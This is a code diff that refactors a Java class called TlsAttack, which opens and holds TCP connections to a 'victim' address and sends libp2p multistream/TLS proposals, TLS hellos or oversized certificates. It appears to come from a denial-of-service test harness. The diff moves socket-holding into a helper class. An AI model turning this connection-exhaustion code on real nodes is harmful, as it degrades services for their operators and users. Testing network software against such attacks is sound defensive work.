@@ -5,7 +5,6 @@ import java.io.IOException;
 import java.net.Socket;
 import java.nio.charset.StandardCharsets;
 import java.security.SecureRandom;
-import java.util.ArrayDeque;
 import org.bouncycastle.tls.TlsClientProtocol;
 import org.bouncycastle.tls.crypto.impl.bc.BcTlsCrypto;
 
@@ -19,23 +18,19 @@ final class TlsAttack implements Attack {
     HEAVY_CERTIFICATES
   }
 
-  /** More than a host has places for. */
-  private static final int HELD_MAX = 256;
-
   private static final int PATIENCE_MILLIS = 500;
   private static final byte[] PROPOSAL =
       "\23/multistream/1.0.0\n\13/tls/1.0.0\n".getBytes(StandardCharsets.US_ASCII);
 
   private final Kind kind;
-  private final TcpAddress victim;
   private final BcTlsCrypto crypto;
   private final byte[] certificate;
   private final byte[] hello;
-  private final ArrayDeque<Socket> held = new ArrayDeque<>();
+  private final HeldSockets held;
 
   TlsAttack(Kind kind, TcpAddress victim) {
     this.kind = kind;
-    this.victim = victim;
+    this.held = new HeldSockets(victim);
     SecureRandom random = new SecureRandom();
     this.crypto = new BcTlsCrypto(random);
     this.certificate = HeavyCertificate.create(random);
@@ -58,8 +53,7 @@ final class TlsAttack implements Attack {
   @Override
   public void step() {
     try {
-      Socket socket = new Socket(victim.host(), victim.port());
-      held.add(socket);
+      Socket socket = held.open();
       socket.setSoTimeout(PATIENCE_MILLIS);
       socket.getOutputStream().write(PROPOSAL);
       if (kind == Kind.TLS_HELLOS) {
@@ -70,8 +64,10 @@ final class TlsAttack implements Attack {
     } catch (IOException refused) {
       // As it should be.
     }
-    if (held.size() > HELD_MAX || (kind == Kind.HEAVY_CERTIFICATES && !held.isEmpty())) {
-      close(held.remove());
+    if (kind == Kind.HEAVY_CERTIFICATES) {
+      held.clear();
+    } else {
+      held.trim();
     }
   }
 
@@ -88,15 +84,6 @@ final class TlsAttack implements Attack {
 
   @Override
   public void end() {
-    held.forEach(TlsAttack::close);
     held.clear();
-  }
-
-  private static void close(Socket socket) {
-    try {
-      socket.close();
-    } catch (IOException gone) {
-      // Then it is closed.
-    }
   }
 }
